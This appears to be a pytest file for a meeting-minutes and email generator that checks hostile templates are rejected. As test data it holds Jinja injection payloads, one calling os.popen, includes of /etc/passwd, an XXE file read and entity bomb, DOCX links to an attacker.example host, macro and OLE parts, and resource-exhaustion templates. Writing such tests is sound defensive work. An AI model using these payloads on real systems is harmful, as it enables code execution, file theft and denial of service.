"""Templates that mean harm: each is refused, by the check and by the making, and soon.

Nothing is timed: a template that got its way would keep these tests from ending.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from spro_docs.errors import FileError, SproError, TemplateError
from spro_docs.models import Meeting
from spro_docs.papers import build_mail, build_minutes
from spro_docs.papers.sandbox import fill
from spro_docs.papers.template import check_paper_template
from tests.deck import meetings
from tests.papers.meetings import of_actions
from tests.papers.reading import words
from tests.papers.templates import BODY, saved, with_body, with_paragraphs, with_parts

LOOPS = 11
CODE = {
    "class": "{{ title.__class__ }}",
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "filter attr": "{{ title|attr('__class__') }}",
    "item": "{{ title['__class__'] }}",
    "private": "{{ place._asdict }}",
    "method": "{{ title.upper }}",
    "call": "{{ title.upper() }}",
    "format": "{{ '{0.__class__}'.format(title) }}",
    "filter format": "{{ '%s'|format(title) }}",
    "map": "{{ items|map(attribute='__class__')|list }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "self": "{{ self.__init__ }}",
    "loop": "{% for a in items %}{{ loop.__class__ }}{% endfor %}",
    "lipsum": "{{ lipsum(n=1000000) }}",
    "namespace": "{% set ns = namespace(a=1) %}",
    "debug": "{% debug %}",
    "do": "{% do title.upper() %}",
}
FILES = {
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import '/etc/passwd' as a %}",
    "from": "{% from 'minutes.docx' import a %}",
    "extends": "{% extends '/etc/passwd' %}",
}
ENDLESS = {
    "range": "{% for i in range(10**9) %}{{ i }}{% endfor %}",
    "power": "{{ 9**9**9**9 }}",
    "times": "{{ 'a' * 10**10 }}",
    "concatenation": "{{ title ~ title ~ title }}",
    "center": "{{ title|center(1000000000) }}",
    "replace": "{{ title" + "|replace('e', title)" * 20 + " }}",
    "recursion": "{% for a in items recursive %}{{ loop(items) }}{% endfor %}",
    "macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "block": "{% block a %}{{ self.a() }}{% endblock %}",
    "brackets": "{{ " + "(" * 200 + "title" + ")" * 200 + " }}",
    "nots": "{{ " + "not " * 100 + "title }}",
    "conditions": "{% if title %}" * 400 + "{% endif %}" * 400,
    "long tag": "{{ title " + " " * 100_000 + "}}",
    "many tags": "{{ title }}" * 20_000,
    "much code": ("{{ title" + "|upper" * 30 + " }}") * 4_000,
    "marks": "{" * 100_000,
}
TEMPLATES = {**CODE, **FILES, **ENDLESS}


@pytest.mark.parametrize("tag", TEMPLATES.values(), ids=TEMPLATES)
def test_the_check_and_the_making_refuse_it(tag: str, sample: Meeting, tmp_path: Path) -> None:
    path = saved(tmp_path, with_paragraphs(tag))

    assert check_paper_template(path)
    with pytest.raises(TemplateError):
        build_minutes(sample, template=path)


@pytest.mark.parametrize("tag", [*CODE.values(), *FILES.values()], ids=[*CODE, *FILES])
def test_so_does_the_sandbox_alone(tag: str) -> None:
    """The texts of the mail are never checked beforehand."""
    with pytest.raises(TemplateError):
        fill(tag, lambda name: {"title": "a", "items": ["b"]}.get(name, "c"), lambda value: value)


def test_a_text_joined_to_itself_does_not_grow(tmp_path: Path) -> None:
    path = saved(tmp_path, with_paragraphs("{{ title" + "|join(title)" * 30 + " }}"))

    assert words(build_minutes(meetings.meeting(), template=path)) == "Réunion départementale"


def nested(count: int) -> str:
    opening = "".join(f"{{% for a{n} in actions %}}" for n in range(count))
    return opening + "x" + "{% endfor %}" * count


@pytest.mark.parametrize("count", [3, LOOPS])
def test_loops_within_loops_are_counted_and_stopped(count: int, tmp_path: Path) -> None:
    path = saved(tmp_path, with_paragraphs(nested(count)))

    with pytest.raises(TemplateError, match="boucle trop longtemps"):
        build_minutes(of_actions(200), template=path)


def test_a_document_out_of_all_measure_is_stopped(tmp_path: Path) -> None:
    text = "x" * 400_000
    path = saved(tmp_path, with_paragraphs("{% for a in actions %}" + text + "{% endfor %}"))

    with pytest.raises(TemplateError, match="démesuré"):
        build_minutes(of_actions(200), template=path)


DOCTYPE = '<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">{}]>'
BOMB = "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10 if n else "ha" * 1000}">' for n in range(10))


@pytest.mark.parametrize("entity", ["e", "b9"])
def test_entities_are_never_read(entity: str, sample: Meeting, tmp_path: Path) -> None:
    """Neither the file that one names nor the gigabytes that ten of them make."""
    body = f"<w:p><w:r><w:t>&{entity};{{{{ title }}}}</w:t></w:r></w:p>"
    data = with_body(body)
    declared = with_parts({BODY: lambda _: DOCTYPE.format(BOMB) + _document(data)})
    path = saved(tmp_path, declared)

    try:
        made = words(build_minutes(sample, template=path))
    except SproError:
        return
    assert "root:" not in made
    assert len(made) < 1_000_000


def _document(data: bytes) -> str:
    import io
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).read(BODY).decode().partition("?>")[2]


RELATION = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{}" Target="{}" {}/></Relationships>'
)


@pytest.mark.parametrize(
    ("kind", "target", "mode"),
    [
        ("attachedTemplate", "https://attacker.example/a.dotm", 'TargetMode="External"'),
        ("image", "file://attacker.example/share/a.png", 'TargetMode="External"'),
        ("vbaProject", "vbaProject.bin", ""),
        ("oleObject", "embeddings/a.bin", ""),
    ],
)
def test_what_would_run_or_be_fetched_is_refused(
    kind: str, target: str, mode: str, sample: Meeting, tmp_path: Path
) -> None:
    relation = RELATION.format(kind, target, mode)
    change = {
        "word/_rels/document.xml.rels": lambda xml: xml.replace("</Relationships>", relation),
        "word/vbaProject.bin": b"macro",
        "word/embeddings/a.bin": b"object",
    }
    path = saved(tmp_path, with_parts(change))

    assert check_paper_template(path)
    with pytest.raises(TemplateError):
        build_minutes(sample, template=path)


@pytest.mark.parametrize(
    "xml",
    [
        '<w:p w:rsidR="{{ title }}"><w:r><w:t>a</w:t></w:r></w:p>',
        "<w:p><w:r><w:instrText>{{ title }}</w:instrText></w:r></w:p>",
        "<w:p><?a {{ title }}?></w:p>",
    ],
    ids=["attribute", "field", "instruction"],
)
def test_tags_where_nobody_sees_them_are_refused(xml: str, sample: Meeting, tmp_path: Path) -> None:
    path = saved(tmp_path, with_body(xml))

    with pytest.raises(TemplateError, match="cachée"):
        build_minutes(sample, template=path)


def test_an_element_of_countless_attributes_is_not_parsed(tmp_path: Path) -> None:
    attributes = " ".join(f'w:a{number}="x"' for number in range(100_000))
    path = saved(tmp_path, with_body(f"<w:p {attributes}/>"))

    with pytest.raises(FileError, match="démesurée"):
        check_paper_template(path)


def test_a_template_that_unpacks_to_gigabytes_is_not_unpacked(tmp_path: Path) -> None:
    path = saved(tmp_path, with_parts({"word/media/a.png": bytes(40_000_000)}))

    assert path.stat().st_size < 200_000
    with pytest.raises(FileError, match="volumineux"):
        check_paper_template(path)


@pytest.mark.parametrize("tag", [*CODE.values(), *FILES.values()], ids=[*CODE, *FILES])
def test_the_texts_of_the_mail_are_as_safe(tag: str, tmp_path: Path) -> None:
    (tmp_path / "invitation.txt.j2").write_text(tag, encoding="utf-8")

    with pytest.raises(TemplateError):
        build_mail(meetings.meeting(agenda=[{"title": "a"}]), templates=tmp_path)
